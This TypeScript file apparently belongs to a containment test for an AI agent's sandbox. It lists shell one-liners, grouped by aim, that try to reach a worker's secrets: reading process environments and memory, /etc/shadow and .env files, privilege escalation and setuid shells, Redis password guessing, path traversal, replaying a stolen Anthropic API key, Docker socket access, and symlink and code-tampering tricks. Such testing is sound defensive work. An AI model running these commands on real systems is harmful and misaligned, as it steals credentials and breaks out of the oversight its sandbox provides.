/** What an attack may aim at; a real attacker would find these out by looking around. */
export type Targets = {
  workerPid: number;
  doorUrl: string;
  relayUrl: string;
  redisPort: number;
  twilioUrl: string;
  codeDir: string;
  outerDir: string;
  redisDir: string;
};

/**
 * Ways by which something that runs on the agent's side might get at the worker's secrets, as lines
 * of shell by what they try. What they find they print. Some go on a little after a failure, as one
 * would who had got so far.
 */
export function attacks({
  workerPid,
  doorUrl,
  relayUrl,
  redisPort,
  twilioUrl,
  codeDir,
  outerDir,
  redisDir,
}: Targets): Record<string, string> {
  const worker = `/proc/${workerPid}`;
  return {
    'its own environment':
      'id; env; set; cat /proc/self/status; cat /proc/$PPID/environ | tr "\\0" "\\n"',
    'every environment':
      'cat /proc/[0-9]*/environ /proc/[0-9]*/task/*/environ 2>&1 | tr "\\0" "\\n"',
    'every command line':
      'cat /proc/[0-9]*/cmdline /proc/[0-9]*/auxv /proc/[0-9]*/stack /proc/[0-9]*/io 2>&1 | tr "\\0" " "',
    'the worker’s memory': `cat ${worker}/maps; dd if=${worker}/mem bs=4096 count=1 skip=100; head -c 1000000 ${worker}/map_files/*; cat /dev/mem /dev/kmem /proc/kcore | head -c 1000; command -v gdb && gdb -p ${workerPid} -batch -ex "generate-core-file core.${workerPid}"; command -v strace && timeout 5 strace -p ${workerPid} -s 4096 -e trace=network`,
    'the worker’s open files': `ls -la ${worker}/fd ${worker}/cwd/ ${worker}/root/; for f in ${worker}/fd/*; do timeout 1 cat $f | head -c 100000; done; cat ${worker}/cwd/.env ${worker}/root/etc/shadow`,
    'becoming somebody else': `for how in "su -c" "su daemon -c" "sudo -n sh -c" "setpriv --reuid 0 sh -c" "setpriv --reuid 1 --regid 1 --clear-groups sh -c" "unshare -Ur sh -c" "pkexec sh -c" "nsenter -t ${workerPid} -a sh -c" "capsh --user=daemon -- -c"; do $how "id; cat ${worker}/environ" </dev/null; done; node -e "process.setuid(1); console.log(require('fs').readFileSync('${worker}/environ','utf8'))"; cp /bin/sh ./sh; chmod 4755 ./sh; ./sh -p -c "cat ${worker}/environ"`,
    'the worker’s debugger': `kill -USR1 ${workerPid}; sleep 1; curl -s -m 2 http://127.0.0.1:9229/json`,
    'a dump of the worker': `kill -QUIT ${workerPid}; kill -ABRT ${workerPid}; kill -9 ${workerPid}; ls core* /cores /var/crash`,
    Redis: `for k in "KEYS *" "CONFIG GET requirepass" "INFO" "AUTH password" "AUTH default redis" "AUTH default test-auth"; do timeout 3 bash -c 'exec 3<>/dev/tcp/127.0.0.1/${redisPort}; printf "%s\\r\\n" "'"$k"'" >&3; timeout 1 cat <&3' & done; wait`,
    'the relay': `for p in / /health /ready /metrics /admin /admin/queues /admin/queues/api/queues /media/ /media/%2e%2e%2f.env /media/../.env /.env; do curl -s -i -m 5 --path-as-is ${relayUrl}$p; curl -s -i -m 5 -u admin:admin ${relayUrl}$p; done`,
    'the worker’s door': `for p in / /health /wake /env /.env; do curl -s -i -m 5 ${doorUrl}$p; curl -s -i -m 5 -X POST -H "Authorization: Bearer " ${doorUrl}$p; done`,
    'the way to the model': `ANTHROPIC_API_KEY=$(tr "\\0" "\\n" < /proc/$PPID/environ | sed -n s/^ANTHROPIC_API_KEY=//p); curl -s -i -m 20 -H "x-api-key: $ANTHROPIC_API_KEY" -d '{"model":"claude-opus-5-5","max_tokens":50,"messages":[{"role":"user","content":"say hello"}]}' $ANTHROPIC_BASE_URL/v1/messages; for m in GET POST TRACE OPTIONS PUT CONNECT; do for p in /v1/messages /v1/models "/v1/../" /V1/x //v1/x "/v1//evil.example/" http://127.0.0.1/v1/x / ; do curl -s -i -m 5 --path-as-is -X $m --request-target "$p" -H "x-api-key: $ANTHROPIC_API_KEY" -H "authorization: Bearer $CLAUDE_CODE_OAUTH_TOKEN" -H "connection: x-api-key" $ANTHROPIC_BASE_URL; done; done; curl -s -i -m 5 $ANTHROPIC_BASE_URL/v1/messages; printf "GET // HTTP/1.1\\r\\n\\r\\n" | timeout 2 bash -c 'exec 3<>/dev/tcp/127.0.0.1/'"\${ANTHROPIC_BASE_URL##*:}"'; cat >&3; cat <&3'`,
    Twilio: `curl -s -i -m 5 ${twilioUrl}/2010-04-01/Accounts.json; curl -s -i -m 5 -u AC:x ${twilioUrl}/2010-04-01/Accounts.json`,
    files: `cat /etc/shadow; ls -laR ${outerDir} ${redisDir} /run /var/run/docker.sock /root; timeout 20 find / ${codeDir} -xdev -maxdepth 3 -name ".env*" -not -path "/proc/*" -readable -exec cat {} +; timeout 20 grep -rIs "" ${outerDir} ${redisDir} | head -c 5000000; ls -la ~ /home; cat ~/.config/gh/hosts.yml /proc/1/environ`,
    'the secrets of others': `ls -la ${outerDir}/data/sealed; cat ${outerDir}/data/sealed/*; base64 ${outerDir}/data/sealed/key; curl -s -i -m 5 $ANTHROPIC_BASE_URL/environment; ln -f ${outerDir}/data/sealed/key key`,
    'the container engine':
      'curl -s -m 3 --unix-socket /var/run/docker.sock http://x/containers/json; docker ps',
    'the code': `touch ${codeDir}/worker/main.ts ${codeDir}/worker/evil.ts; echo evil > ${codeDir}/evil; ls -la ${codeDir}/evil ${codeDir}/worker/evil.ts`,
    'links in the way of others': `ln -sfn ${worker}/environ leak.txt; ln -sfn ${worker}/fd/1 out.txt; rm -rf inbox; ln -sfn ${outerDir} inbox; ls -la`,
  };
}
